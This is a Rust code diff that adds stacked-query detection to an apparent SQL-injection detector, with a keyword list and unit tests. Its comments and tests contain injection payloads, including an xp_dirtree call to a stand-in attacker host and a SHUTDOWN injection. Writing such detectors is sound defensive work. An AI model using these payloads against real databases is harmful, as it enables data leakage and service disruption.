@@ -396,6 +396,46 @@ fn waits(v: &str) -> bool {
     }
 }
 
+/// Whether a `;` in the value is followed by a statement of SQL's that runs
+/// something on its own (`; EXEC master..xp_dirtree ...`, `; DECLARE @q
+/// ...`, `; SHUTDOWN`): a stacked query. The model knows `'; drop table
+/// ...` but not every procedure call (`'; EXEC master..xp_dirtree
+/// '\\attacker.example\x'--` 0.70, `'; EXEC sp_configure ...` 0.26).
+fn stacks_a_statement(v: &str) -> bool {
+    const STARTS: [&[u8]; 9] = [
+        b"exec",
+        b"execute",
+        b"declare",
+        b"shutdown",
+        b"copy",
+        b"grant",
+        b"revoke",
+        b"truncate",
+        b"reconfigure",
+    ];
+    let b = v.as_bytes();
+    memchr::memchr_iter(b';', b).any(|i| {
+        let rest = &b[i + 1..];
+        let start = rest
+            .iter()
+            .position(|c| !matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b'+'))
+            .unwrap_or(rest.len());
+        let word = rest[start..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphabetic())
+            .count();
+        let w = &rest[start..start + word];
+        // A procedure call, a declaration, a copy or a grant names what it
+        // acts on (`exec;` alone, a word between two semicolons, is prose:
+        // a generated benign value had it); `SHUTDOWN` and `RECONFIGURE`
+        // stand alone.
+        let then = rest[start + word..].iter().find(|c| **c != b' ');
+        let named = matches!(then, Some(c) if c.is_ascii_alphanumeric() || matches!(c, b'@' | b'_' | b'[' | b'(' | b'"'));
+        STARTS.iter().any(|s| w.eq_ignore_ascii_case(s))
+            && (named || w.eq_ignore_ascii_case(b"shutdown") || w.eq_ignore_ascii_case(b"reconfigure"))
+    })
+}
+
 /// `local@domain.tld` with letters, digits, `.`, `_` and `-` only, one `@`
 /// and a dot in the domain: no space, quote, operator or second `@`.
 fn is_plain_email(v: &str) -> bool {
@@ -796,7 +836,8 @@ impl ValueDetector for SqliDetector {
         // the grammatical reading decides (`Credit Union Select Checking`
         // parses nowhere and is cleared). Prose the model is wrongly
         // certain of is lowered to the same score.
-        let raised = score < GRAMMAR_DECIDES && (reads_a_table(value) || waits(value));
+        let raised = score < GRAMMAR_DECIDES
+            && (reads_a_table(value) || waits(value) || stacks_a_statement(value));
         let lowered = score >= sql_grammar::CERTAIN && prose_the_model_misreads(value);
         if raised || lowered {
             GRAMMAR_DECIDES
@@ -1049,6 +1090,27 @@ mod tests {
             "1 union select 1#",
         ] {
             assert!(!ends_with_keypad_code(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn stacked_statements() {
+        for v in [
+            "'; EXEC master..xp_dirtree '\\\\x\\y'--",
+            "1;declare @q varchar(9)",
+            "x';+SHUTDOWN--",
+            "1; Reconfigure",
+        ] {
+            assert!(stacks_a_statement(v), "{v}");
+        }
+        for v in [
+            "exec",
+            "a;b",
+            "1; executive summary",
+            "see: exec",
+            "Color; exec; a, Window",
+        ] {
+            assert!(!stacks_a_statement(v), "{v}");
         }
     }
 
